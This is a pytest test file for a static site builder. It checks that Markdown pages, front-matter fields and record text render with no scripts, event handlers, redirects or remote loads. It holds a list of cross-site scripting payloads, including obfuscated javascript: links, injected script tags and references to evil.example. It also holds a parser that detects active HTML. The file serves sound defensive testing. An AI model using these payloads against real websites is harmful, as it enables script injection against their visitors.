"""Whatever is written as Markdown, in a page or a record: nothing of it runs, loads, or sends a reader elsewhere."""

from __future__ import annotations

import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest

from site_builder.load.contract.schemas import read_schemas
from site_builder.model import Text
from site_builder.phrases import read_phrases
from site_builder.publish.settings import read_settings
from site_builder.publish.theme import draw_theme
from site_builder.render.environment import environment_for
from tests.repositories import copy_base
from tests.service import SETTINGS

EXTENSIONS = "markdown_extensions: [admonition, attr_list, def_list, tables, toc, footnotes, abbr, fenced_code]\n"
HARMLESS = '# Title\n\n## Part\n\n| a | b |\n|:-:|---|\n| 1 | 2 |\n\n!!! note "N"\n    text\n\n```yaml\na: 1\n```\n'
HOSTILE = [
    '<img src="x" onerror="alert(1)">',
    '<a href="&#106;avascript:alert(1)">x</a>',
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:alert(1)) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "## Part {: onclick=alert(1) }",
    "[x](#a){: onmouseover='alert(1)' style='position:fixed' }",
    "## Part {: id='\"><script>alert(1)</script>' }",
    "## <script>alert(1)</script> Part",
    "## &lt;script&gt;alert(1)&lt;/script&gt; Part",
    "# `<script>alert(1)</script>`",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
    "<svg><script>alert(1)</script></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<p>\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n</p>",
    "![x](//evil.example/x.png) ![y](https://evil.example/y.png)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "</article></main></body><script>alert(1)</script>",
    '<a id="jb-content" name="__md_scope">x</a>',
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example/x.css>",
    '*[x]: "><script>alert(1)</script>\n\nx',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]
HEADS = [
    'title: "</title><script>alert(1)</script>"',
    "description: '\"><script>alert(1)</script>'",
]
LOADING = ("src", "srcset", "srcdoc", "data", "poster", "action", "formaction", "background", "ping", "manifest")


@dataclass
class Told(HTMLParser):
    """What of a page could act."""

    acts: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in ("script", "style", "link", "base", "iframe", "object", "embed", "form", "svg", "math", "template"):
            self.acts.append(f"<{tag} {sorted(given.items())}>")
        if tag == "meta" and "http-equiv" in given:
            self.acts.append("meta refresh")
        self.acts += [name for name in given if name.startswith("on") or given[name] == "jb-content"]
        self.acts += [name for name in given if name in LOADING and not is_own_picture(tag, given[name])]
        for name in ("href", "xlink:href"):
            scheme = re.match(r"[\s\x00-\x20]*([a-z]+)[\s]*:", given.get(name, ""), re.IGNORECASE)
            if scheme and scheme[1].lower() not in ("http", "https", "mailto"):
                self.acts.append(given[name])

    def handle_data(self, data: str) -> None:
        if self.cdata_elem == "script":
            self.acts.append(data)


def is_own_picture(tag: str, address: str) -> bool:
    return tag == "img" and not address.startswith("//") and ":" not in address


def acts_of(page: str) -> list[str]:
    told = Told()
    told.feed(page)
    told.close()
    return told.acts


@pytest.fixture(scope="module")
def drawn(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mapping[str, str]]:
    """Return the pages that the engine makes of each hostile text, by its number, and ``plain`` of a harmless one."""
    folder = tmp_path_factory.mktemp("drawn")
    root = copy_base(folder / "repository")
    (root / "mkdocs.yml").write_text(SETTINGS + EXTENSIONS, encoding="utf-8")
    written = root / "content/pages/en"
    written.mkdir(parents=True)
    texts = {f"h{number}": f"# Title\n\n{text}\n" for number, text in enumerate(HOSTILE)}
    texts |= {f"d{number}": f"---\n{head}\n---\n\n# Title\n" for number, head in enumerate(HEADS)}
    for name, text in {**texts, "plain": HARMLESS}.items():
        (written / f"{name}.md").write_text(text, encoding="utf-8")
    theme = draw_theme(root, read_settings(root), {("forms", 2)}, folder / "cache")
    pages = {name: theme.files[f"en/{name}/index.html"].read_text(encoding="utf-8") for name in (*texts, "plain")}
    yield {name: page.replace(f"/{name}/", "/plain/") for name, page in pages.items()}


@pytest.mark.parametrize("number", range(len(HOSTILE)), ids=HOSTILE)
def test_a_page_acts_no_more_than_a_harmless_one(number: int, drawn: Mapping[str, str]) -> None:
    assert acts_of(drawn[f"h{number}"]) == acts_of(drawn["plain"])


@pytest.mark.parametrize("number", range(len(HEADS)), ids=HEADS)
def test_the_head_of_a_page_is_text(number: int, drawn: Mapping[str, str]) -> None:
    assert acts_of(drawn[f"d{number}"]) == acts_of(drawn["plain"])


def test_a_harmless_page_keeps_all_that_markdown_is_for(drawn: Mapping[str, str]) -> None:
    page = drawn["plain"]

    for kept in (
        '<h2 id="part">',
        '<th style="text-align:center">a</th>',
        '<div class="admonition note">',
        '<p class="admonition-title">N</p>',
        '<code class="language-yaml">',
    ):
        assert kept in page


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_of_a_record_acts_in_no_way(text: str) -> None:
    render = environment_for(read_phrases("en"), read_schemas().codes).filters["md"]

    assert acts_of(str(render(Text(en=text)))) == []


def test_text_and_pages_are_held_to_one_policy() -> None:
    from site_builder.render.clean import clean_html

    assert clean_html('<p class="jb-hero" onclick="x()" style="color:red">a<script>b</script></p>') == "<p>a</p>"
    assert clean_html('<td style="text-align:left;position:fixed">') == ""
    assert Path(clean_html.__code__.co_filename).name == "clean.py"
